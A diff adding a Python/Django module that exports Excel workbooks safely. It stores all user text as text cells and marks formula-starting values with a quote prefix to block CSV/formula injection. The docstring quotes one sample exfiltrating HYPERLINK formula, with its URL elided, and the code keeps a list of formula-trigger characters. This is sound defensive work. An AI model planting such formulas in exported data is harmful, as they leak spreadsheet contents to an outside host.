@@ -1,0 +1,131 @@
+"""The one way to write an Excel file (openpyxl): user text always lands as text.
+
+openpyxl turns any string that starts with "=" into a formula, and "#N/A"-like strings into
+error values; Excel and LibreOffice also treat "+", "-", "@" and a leading tab or CR as the
+start of a formula once a cell is edited, and a formula like
+`=HYPERLINK("http://…?"&A1,"x")` leaks the sheet when clicked (CSV/formula injection).
+So every string is stored as a string cell; those with a dangerous first character also get
+Excel's "quote prefix" style, which shows the text exactly as typed (no visible apostrophe,
+unlike the usual "'" prefix that would change the exported value) and keeps it a text when
+someone edits the cell. Numbers, decimals and dates stay numbers and dates.
+
+Every export goes through `Book` / `append_row` / `set_cell`; nothing else in the project
+calls `Workbook` for writing.
+"""
+
+from __future__ import annotations
+
+import io
+from collections.abc import Iterable
+from typing import Any
+
+from django.http import HttpResponse
+from django.utils.functional import Promise
+from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.styles import Font
+from openpyxl.utils import get_column_letter
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# First characters that make a spreadsheet read a typed value as a formula (or DDE call).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def is_dangerous(text: str) -> bool:
+    return text.startswith(FORMULA_STARTS)
+
+
+def clean_text(text: str) -> str:
+    """Control characters XML (and so .xlsx) cannot hold; openpyxl would raise on them and
+    turn the whole export into a 500 because of one pasted character."""
+    return ILLEGAL_CHARACTERS_RE.sub("", text)
+
+
+def _cell(ws, value: Any):
+    """A cell for `ws` holding `value`, strings forced to string cells."""
+    if isinstance(value, Promise):  # gettext_lazy labels
+        value = str(value)
+    cell = WriteOnlyCell(ws)
+    if isinstance(value, str):
+        value = clean_text(value)
+        cell.value = value
+        cell.data_type = "s"  # never "f" (formula) or "e" (error value)
+        if is_dangerous(value):
+            cell.quotePrefix = True
+    else:
+        cell.value = value
+    return cell
+
+
+def append_row(ws, values: Iterable[Any], *, bold: bool = False) -> None:
+    """Append one row to a worksheet (normal or write-only), user text as text."""
+    row = []
+    for value in values:
+        if value is None:
+            row.append(None)
+            continue
+        cell = _cell(ws, value)
+        if bold:
+            cell.font = Font(bold=True)
+        row.append(cell)
+    ws.append(row)
+
+
+def set_cell(ws, coordinate: str, value: Any):
+    """Set one cell of a normal worksheet, with the same rules as `append_row`."""
+    source = _cell(ws, value)
+    cell = ws[coordinate]
+    cell.value = source.value
+    cell.data_type = source.data_type if source.value is not None else cell.data_type
+    if source.quotePrefix:
+        cell.quotePrefix = True
+    return cell
+
+
+class Book:
+    """A workbook of header-styled sheets: bold, frozen header row, widths from the headers.
+    `write_only=True` streams rows (large exports such as the audit log)."""
+
+    def __init__(self, *, write_only: bool = False):
+        self.workbook = Workbook(write_only=write_only)
+        self._reuse_active = not write_only  # a normal workbook starts with one empty sheet
+
+    def sheet(self, title: str, headers: Iterable[Any] | None = None, *, min_width: int = 10):
+        if self._reuse_active:
+            ws = self.workbook.active
+            ws.title = str(title)[:31]
+            self._reuse_active = False
+        else:
+            ws = self.workbook.create_sheet(str(title)[:31])
+        if headers is not None:
+            headers = [str(h) for h in headers]
+            # Widths and panes first: a write-only sheet writes them before its first row.
+            for i, header in enumerate(headers, start=1):
+                width = max(min_width, len(header) * 2 + 4)
+                ws.column_dimensions[get_column_letter(i)].width = width
+            ws.freeze_panes = "A2"
+            append_row(ws, headers, bold=True)
+        return ws
+
+    def to_bytes(self) -> bytes:
+        buffer = io.BytesIO()
+        self.workbook.save(buffer)
+        return buffer.getvalue()
+
+
+def table_bytes(title: str, headers: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
+    """A one-sheet workbook: header row, then the rows."""
+    book = Book()
+    ws = book.sheet(title, headers)
+    for row in rows:
+        append_row(ws, row)
+    return book.to_bytes()
+
+
+def xlsx_response(content: bytes, filename: str) -> HttpResponse:
+    """An attachment response for an ASCII `filename`."""
+    response = HttpResponse(content, content_type=XLSX)
+    response["Content-Disposition"] = f'attachment; filename="{filename}"'
+    return response
